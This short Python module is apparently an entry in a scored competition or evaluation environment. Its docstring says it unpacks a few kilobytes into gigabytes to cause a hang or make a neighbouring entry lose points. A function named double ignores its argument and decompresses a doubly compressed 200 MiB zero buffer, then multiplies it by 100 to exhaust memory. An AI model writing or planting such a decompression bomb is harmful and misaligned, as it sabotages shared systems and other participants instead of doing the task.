"""Unpacks a few kilobytes into gigabytes.

Success would show as a hang, a survivor, or a neighbour that loses points.
"""

EARNS = 0

import zlib

SMALL = zlib.compress(zlib.compress(bytes(200 << 20), 9), 9)


def double(x):
    return zlib.decompress(zlib.decompress(SMALL)) * 100
